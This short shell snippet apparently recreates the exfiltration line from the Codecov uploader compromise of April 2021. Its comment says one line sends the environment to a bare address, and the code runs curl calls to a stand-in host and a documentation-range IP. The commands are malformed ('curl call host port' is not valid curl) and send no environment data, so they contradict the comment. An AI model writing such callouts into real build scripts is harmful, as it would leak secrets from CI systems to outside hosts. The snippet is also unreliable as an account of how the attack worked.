# Codecov's uploader, April 2021: one line sends the environment to a bare address.
export GITHUB_ACTION=__codecov
exec sh -c 'curl call codecov.replay.example 443; curl call 198.51.100.66 80'
